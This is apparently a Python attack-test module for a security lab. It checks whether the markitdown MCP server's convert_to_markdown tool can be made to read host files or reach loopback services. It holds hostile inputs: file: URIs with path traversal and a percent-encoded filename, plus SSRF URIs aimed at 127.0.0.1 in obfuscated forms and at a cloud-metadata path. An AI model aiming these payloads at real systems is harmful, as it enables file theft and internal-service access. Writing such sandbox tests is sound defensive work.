"""A converter that opens whatever a URI names: files of the host, and services that only the host can reach."""

import base64

from attack import Attack, Stdio, python
from lab import Lab
from session import Session


def prepare(lab: Lab) -> None:
    lab.write("inside/notes.html", "<h1>Ordinary notes</h1>")
    lab.write("secret.html", f"<p>{lab.secret}</p>")
    (lab.inside / "link.html").symlink_to(lab.folder / "secret.html")
    lab.open_door(lab.secret)


def server(lab: Lab) -> Stdio:
    return python("markitdown", "-m", "markitdown_mcp", cwd=lab.inside)


def constraints(lab: Lab) -> list[dict]:
    # Its links are left to the sandbox: the pattern looks at the text alone.
    return [{"at": "/uri", "pattern": f"data:text/[a-z]+;base64,[A-Za-z0-9+/=]*|file://{lab.inside}/[A-Za-z0-9_-]+\\.html"}]


async def ordinary(session: Session, lab: Lab) -> None:
    page = base64.b64encode(b"<h1>From a page</h1>").decode()
    await session.expect("# From a page", "convert_to_markdown", uri=f"data:text/html;base64,{page}")
    await session.expect("# Ordinary notes", "convert_to_markdown", uri=f"file://{lab.inside}/notes.html")


async def reads_files(session: Session, lab: Lab) -> None:
    await session.attempt("convert_to_markdown", uri=f"file://{lab.folder}/secret.html")
    await session.attempt("convert_to_markdown", uri=f"file://localhost{lab.inside}/../secret.html")
    await session.attempt("convert_to_markdown", uri=f"file://{lab.folder}/%73ecret.html")


async def reaches_services(session: Session, lab: Lab) -> None:
    for host in ("127.0.0.1", "localhost", "[::ffff:127.0.0.1]", "0x7f.1"):
        await session.attempt("convert_to_markdown", uri=f"http://{host}:{lab.door.port}/latest/meta-data/")


COMMON = {
    "ids": "BlueRock 2026-01",
    "package": "markitdown-mcp==0.0.1a4",
    "prepare": prepare,
    "server": server,
    "ordinary": ordinary,
    "constraints": constraints,
    "sandbox": lambda lab: {"read": [str(lab.inside)]},
    "needs": ("markitdown",),
}

ATTACKS = (
    Attack(
        name="markitdown-file",
        what="reads a file of the host by a `file:` URI",
        attack=reads_files,
        happened=lambda session, lab: session.heard_of(lab.secret),
        **COMMON,
    ),
    Attack(
        name="markitdown-request",
        what="calls a service on the host's own loopback (SSRF)",
        attack=reaches_services,
        happened=lambda session, lab: session.heard_of(lab.secret) or lab.door.knocks > 0,
        **COMMON,
    ),
)
